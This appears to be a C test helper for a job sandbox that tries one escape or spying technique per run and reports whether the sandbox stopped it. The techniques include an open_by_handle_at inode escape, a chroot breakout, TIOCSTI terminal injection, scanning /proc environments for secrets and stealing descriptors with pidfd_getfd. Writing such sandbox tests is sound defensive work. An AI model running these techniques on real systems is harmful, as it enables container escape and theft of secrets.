/* What a hostile job tries, one attempt per run: attack VERB ARGUMENT... prints "ok", or the name of the error.
 *
 * A verb that only prepares goes before another: `attack nested umount /proc` unmounts in a user namespace of its own,
 * where the caller has every capability. The tests run the same attempt outside, where it works, and in a job.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void finish(long result)
{
    puts(result < 0 ? strerrorname_np(errno) : "ok");
    fflush(stdout);
    _exit(0);
}

static void need(long result, const char *what)
{
    if (result < 0) {
        printf("%s: %s\n", what, strerrorname_np(errno));
        fflush(stdout);
        _exit(0);
    }
}

static long write_to(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_NONBLOCK);
    return fd < 0 ? -1 : write(fd, text, strlen(text));
}

/* A user namespace in which we are root, with mount, cgroup, IPC, network and PID namespaces that it owns. */
static void nested(void)
{
    char map[64];
    unsigned uid = geteuid(), gid = getegid();
    need(unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP | CLONE_NEWIPC | CLONE_NEWNET | CLONE_NEWPID), "unshare");
    write_to("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %u 1\n", uid);
    need(write_to("/proc/self/uid_map", map), "uid_map");
    snprintf(map, sizeof map, "0 %u 1\n", gid);
    need(write_to("/proc/self/gid_map", map), "gid_map");
    pid_t child = fork();
    need(child, "fork");
    if (child) {
        waitpid(child, 0, 0);
        _exit(0);
    }
}

/* Reach an inode by its number, as "shocker" did it: a file handle needs no path. The root of most file systems is 2. */
static long by_handle(const char *path)
{
    struct {
        struct file_handle handle;
        unsigned char bytes[8];
    } root = {{.handle_bytes = 8, .handle_type = 1}, {2}};
    int here = open(path, O_RDONLY);
    return here < 0 ? -1 : open_by_handle_at(here, &root.handle, O_RDONLY);
}

static long abstract(const char *name)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    return connect(fd, (struct sockaddr *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
}

/* Which of the files named on standard input can be opened for writing? */
static void writable(void)
{
    char path[4096];
    while (fgets(path, sizeof path, stdin)) {
        path[strcspn(path, "\n")] = 0;
        int fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY);
        if (fd >= 0) {
            puts(path);
            close(fd);
        }
    }
    fflush(stdout);
    _exit(0);
}

/* Look into every process that comes by for SECONDS: its environment, program and descriptors. Print what is found. */
static void snoop(int seconds, const char *secret)
{
    static char data[1 << 20], path[320], target[4096];
    time_t end = time(0) + seconds;
    while (time(0) < end) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));) {
            if (!isdigit(entry->d_name[0]) || atoi(entry->d_name) == getpid())
                continue;
            snprintf(path, sizeof path, "/proc/%s/environ", entry->d_name);
            int fd = open(path, O_RDONLY);
            ssize_t size = fd < 0 ? 0 : read(fd, data, sizeof data);
            close(fd);
            if (size > 0 && memmem(data, (size_t)size, secret, strlen(secret)))
                puts("environment"), fflush(stdout);
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            ssize_t length = readlink(path, target, sizeof target - 1);
            target[length < 0 ? 0 : length] = 0;
            if (strstr(target, "python"))
                puts("program"), fflush(stdout);
        }
        closedir(proc);
    }
    _exit(0);
}

/* Let each new process go on in small steps until it is the shim, and then take, and keep, copies of what it has open. */
static void hold_status(void)
{
    static char path[320], target[64];
    for (;;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));) {
            int pid = atoi(entry->d_name);
            if (pid < 3 || pid == getpid() || pid == getppid() || kill(pid, SIGSTOP) < 0)
                continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t length = readlink(path, target, sizeof target - 1);
            target[length < 0 ? 0 : length] = 0;
            if (!strcmp(target, "/dev/imgrun/init")) {
                int process = (int)syscall(SYS_pidfd_open, pid, 0);
                for (int fd = 3; fd < 100; fd++)
                    if (syscall(SYS_pidfd_getfd, process, fd, 0) >= 0)
                        puts("held"), fflush(stdout);
                close(process);
            }
            kill(pid, SIGCONT);
        }
        closedir(proc);
    }
}

/* Verbs that prepare. Returns how many words it took, 0 for a verb of another kind; does not return on failure. */
static int prepare(char **words)
{
    const char *verb = words[0];
    if (!strcmp(verb, "nested")) {
        nested();
        return 1;
    }
    if (!strcmp(verb, "mount")) { /* TYPE DIRECTORY OPTIONS */
        need(mount("none", words[2], words[1], 0, words[3]), "mount");
        return 4;
    }
    if (!strcmp(verb, "bind") || !strcmp(verb, "bind-alone")) { /* FROM TO: with or without what is mounted below */
        need(mount(words[1], words[2], 0, MS_BIND | (verb[4] ? 0 : MS_REC), 0), "bind");
        return 3;
    }
    if (!strcmp(verb, "read-only") || !strcmp(verb, "read-write")) {
        need(mount("none", words[1], 0, MS_REMOUNT | MS_BIND | (verb[6] == 'n' ? MS_RDONLY : 0), 0), "remount");
        return 2;
    }
    if (!strcmp(verb, "umount")) {
        need(umount2(words[1], MNT_DETACH), "umount");
        return 2;
    }
    return 0;
}

int main(int argc, char **argv)
{
    (void)argc;
    char **a = argv + 1;
    for (int taken; *a && (taken = prepare(a));)
        a += taken;
    if (!*a)
        finish(0);
    const char *verb = *a++;
    if (!strcmp(verb, "read") || !strcmp(verb, "append")) {
        char byte;
        int fd = open(a[0], *verb == 'r' ? O_RDONLY | O_NONBLOCK : O_WRONLY | O_APPEND | O_NONBLOCK);
        need(fd, "open");
        finish(*verb == 'r' ? read(fd, &byte, 1) : 0);
    } else if (!strcmp(verb, "write"))
        finish(write_to(a[0], a[1]));
    else if (!strcmp(verb, "create"))
        finish(open(a[0], O_CREAT | O_EXCL | O_WRONLY, 0644));
    else if (!strcmp(verb, "chmod"))
        finish(chmod(a[0], (mode_t)strtoul(a[1], 0, 8)));
    else if (!strcmp(verb, "mknod"))
        finish(mknod(a[0], strtoul(a[1], 0, 8), makedev(atoi(a[2]), atoi(a[3]))));
    else if (!strcmp(verb, "pivot"))
        finish(syscall(SYS_pivot_root, a[0], a[0]));
    else if (!strcmp(verb, "setns"))
        finish(setns(open(a[0], O_RDONLY), 0));
    else if (!strcmp(verb, "unshare"))
        finish(unshare(atoi(a[0])));
    else if (!strcmp(verb, "handle"))
        finish(by_handle(a[0]));
    else if (!strcmp(verb, "kill"))
        finish(kill(atoi(a[0]), atoi(a[1])));
    else if (!strcmp(verb, "ptrace"))
        finish(ptrace(PTRACE_SEIZE, atoi(a[0]), 0, 0));
    else if (!strcmp(verb, "abstract"))
        finish(abstract(a[0]));
    else if (!strcmp(verb, "tiocsti"))
        finish(ioctl(atoi(a[0]), TIOCSTI, "x"));
    else if (!strcmp(verb, "take-tty")) {
        setsid();
        finish(ioctl(atoi(a[0]), TIOCSCTTY, 1));
    } else if (!strcmp(verb, "key")) /* the session keyring's key of this name */
        finish(syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", a[0], 0));
    else if (!strcmp(verb, "with-key")) /* NAME PROGRAM ARGUMENT...: with a key in a session keyring of its own */ {
        need(syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, 0), "join");
        need(syscall(SYS_add_key, "user", a[0], "secret", 6, KEY_SPEC_SESSION_KEYRING), "add_key");
        execvp(a[1], a + 1);
        finish(-1);
    } else if (!strcmp(verb, "writable"))
        writable();
    else if (!strcmp(verb, "snoop"))
        snoop(atoi(a[0]), a[1]);
    else if (!strcmp(verb, "hold-status"))
        hold_status();
    else if (!strcmp(verb, "syslog"))
        finish(syscall(SYS_syslog, 3, malloc(4096), 4096));
    else if (!strcmp(verb, "euid")) /* who we are now, and whether exec gave us anything */ {
        printf("%u %u\n", geteuid(), getegid());
        fflush(stdout);
        execv("/bin/grep", (char *[]){"grep", "CapEff", "/proc/self/status", 0});
    } else if (!strcmp(verb, "chain")) /* chroot(2) out of the root by a directory kept open */ {
        int out = open(".", O_RDONLY);
        mkdir("/tmp/jail", 0755);
        need(chroot("/tmp/jail"), "chroot");
        need(fchdir(out), "fchdir");
        for (int i = 0; i < 64; i++)
            need(chdir(".."), "chdir");
        need(chroot("."), "chroot");
        finish(access(a[0], F_OK));
    } else {
        fprintf(stderr, "attack: no such verb: %s\n", verb);
        return 2;
    }
}
